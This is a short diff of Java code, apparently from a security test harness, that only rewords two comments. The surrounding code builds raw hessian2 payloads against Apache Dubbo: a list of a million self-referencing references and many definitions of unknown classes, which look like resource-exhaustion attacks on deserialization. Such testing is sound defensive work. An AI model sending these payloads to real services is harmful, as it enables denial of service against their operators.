@@ -56,7 +56,7 @@ final class Contents {
     /** Sends a list of a million references, which point to the list itself and to one map. */
     static void references(Attacker attacker) {
         ByteArrayOutputStream list = new ByteArrayOutputStream();
-        list.write(0x57); // the tag of an untyped list of variable length
+        list.write(0x57); // the tag of a hessian2 list without a type and without a length
         list.write('H');
         list.write('Z');
         for (int i = 0; i < REFERENCES; i++) {
@@ -76,7 +76,7 @@ final class Contents {
             for (int i = 0; i < CLASSES; i++) {
                 list.write('C');
                 list.writeBytes(RawDubbo.text(Target.class.getPackageName() + ".Unknown" + name.getAndIncrement()));
-                list.write(0x91); // the class has one field
+                list.write(0x91); // the class definition names one field
                 list.writeBytes(RawDubbo.text("a"));
                 list.write('O');
                 list.writeBytes(RawDubbo.number(i));
